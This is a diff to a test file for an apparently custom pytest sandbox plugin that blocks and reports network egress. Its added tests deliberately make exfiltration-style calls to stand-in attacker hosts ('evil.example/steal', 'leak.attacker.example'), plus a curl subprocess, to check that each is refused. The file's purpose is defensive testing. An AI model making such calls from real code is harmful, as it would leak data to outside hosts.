@@ -42,6 +42,7 @@ operations:
 LIVE_TESTS = """
 import asyncio
 import socket
+import subprocess
 import urllib.request
 
 import httpx
@@ -111,16 +112,18 @@ def test_httpx_async(binding, assert_denied):
     assert_denied("POST", ITEMS)
 
 
-def test_unknown_host_requests(binding):
+def test_unknown_host_requests(binding, assert_blocked):
     bot = binding("bot@prod")
     with pytest.raises(requests.ConnectionError, match="blocked a call to evil.example"):
         requests.get("https://evil.example/steal", headers=bot.headers)
+    assert assert_blocked("evil.example", channel="host").path == "/steal"
 
 
-def test_unknown_host_httpx(binding):
+def test_unknown_host_httpx(binding, assert_denied):
     bot = binding("bot@prod")
     with pytest.raises(httpx.ConnectError, match="blocked a call to evil.example"):
         httpx.get("https://evil.example/steal", headers=bot.headers)
+    assert_denied("GET", "https://evil.example/steal")
 
 
 def test_host_outside_allowlist(binding, assert_denied):
@@ -130,16 +133,18 @@ def test_host_outside_allowlist(binding, assert_denied):
     assert assert_denied("GET", "https://api.other.example/things").outcome == "blocked"
 
 
-def test_raw_socket_is_refused(sandbox):
+def test_raw_socket_is_refused(sandbox, assert_blocked):
     with pytest.raises(ConnectionError, match="203.0.113.9:80"):
         socket.create_connection(("203.0.113.9", 80), timeout=1)
+    assert_blocked("203.0.113.9", channel="tcp")
 
 
-def test_a_name_lookup_is_refused(sandbox):
+def test_a_name_lookup_is_refused(sandbox, assert_blocked):
     # urllib is neither requests nor httpx: it must not even resolve the name
     with pytest.raises(Exception, match="blocked a DNS lookup of api.real-vendor.example"):
         urllib.request.urlopen("https://api.real-vendor.example/v1/me", timeout=1)
     assert socket.getaddrinfo("localhost", 80)  # loopback still resolves
+    assert_blocked("api.real-vendor.example", channel="dns")
 
 
 def test_least_privilege_holds(binding, assert_least_privilege):
@@ -179,6 +184,29 @@ def test_denied_fails_when_never_made(binding, assert_denied):
 
 def test_least_privilege_needs_a_binding(sandbox, assert_least_privilege):
     assert_least_privilege()
+
+
+def test_swallowed_egress_fails(binding):
+    bot = binding("bot@prod")
+    requests.get(ITEMS, headers=bot.headers)
+    try:
+        subprocess.run(["curl", "-s", "https://api.real-vendor.example/v1/me"])
+    except OSError:
+        pass  # careless flow code: the test must not pass for it
+
+
+def test_swallowed_egress_fails_least_privilege(binding, assert_least_privilege):
+    bot = binding("bot@prod")
+    requests.get(ITEMS, headers=bot.headers)
+    try:
+        socket.gethostbyname("leak.attacker.example")
+    except OSError:
+        pass
+    assert_least_privilege()
+
+
+def test_blocked_fails_when_never_made(sandbox, assert_blocked):
+    assert_blocked("evil.example")
 """
 
 
@@ -204,7 +232,10 @@ def test_live_outcomes(live: pytest.RunResult, ws: PluginWorkspace) -> None:
         "test_a_name_lookup_is_refused",
         "test_least_privilege_holds",
     ]
+    errored_at_teardown = ["test_swallowed_egress_fails"]
     failed = [
+        "test_swallowed_egress_fails_least_privilege",
+        "test_blocked_fails_when_never_made",
         "test_unhandled_egress_fails",
         "test_least_privilege_fails_missing",
         "test_least_privilege_fails_excessive",
@@ -213,9 +244,49 @@ def test_live_outcomes(live: pytest.RunResult, ws: PluginWorkspace) -> None:
         "test_least_privilege_needs_a_binding",
     ]
     assert ws.outcomes(live.outlines) == {
-        *(("PASSED", f"test_flow_code.py::{name}") for name in passed),
+        *(("PASSED", f"test_flow_code.py::{name}") for name in passed + errored_at_teardown),
         *(("FAILED", f"test_flow_code.py::{name}") for name in failed),
+        *(("ERROR", f"test_flow_code.py::{name}") for name in errored_at_teardown),
     }
+
+
+def test_egress_the_test_swallowed_fails_it_naming_each_attempt(live: pytest.RunResult) -> None:
+    live.stdout.fnmatch_lines(
+        [
+            "*_ ERROR at teardown of test_swallowed_egress_fails _*",
+            "the test's code tried to leave the sandbox; each attempt was refused:",
+            "  2. EXEC curl -> blocked (a child process (curl): the in-process sandbox"
+            " cannot see what it sends; run it inside the network boundary (docs/security.md))",
+            "if the test expects it, say so with assert_blocked(...) (or assert_denied(...))",
+        ],
+        consecutive=True,
+    )
+    live.stdout.fnmatch_lines(
+        [
+            "*_ test_swallowed_egress_fails_least_privilege _*",
+            "E   AssertionError: least privilege does not hold:",
+        ]
+    )
+    live.stdout.fnmatch_lines(  # in order, past the failures of the tests before it
+        [
+            "*_ test_swallowed_egress_fails_least_privilege _*",
+            "E   binding bot@prod:",
+            "E     egress            test_flow_code.py::test_swallowed_egress_fails_least_privilege"
+            " step 2 (call 2)",
+            "E                       blocked a DNS lookup of leak.attacker.example: the sandbox"
+            " resolves no names; its services are reached through requests, httpx or its"
+            " loopback servers",
+            "E   calls made:",
+        ]
+    )
+    live.stdout.fnmatch_lines(
+        [
+            "E   AssertionError: expected a blocked attempt to leave the sandbox matching"
+            " evil.example, but none was made. Calls made:",
+            "E     (no calls were made)",
+        ],
+        consecutive=True,
+    )
 
 
 def test_unhandled_egress_names_the_host(live: pytest.RunResult) -> None:
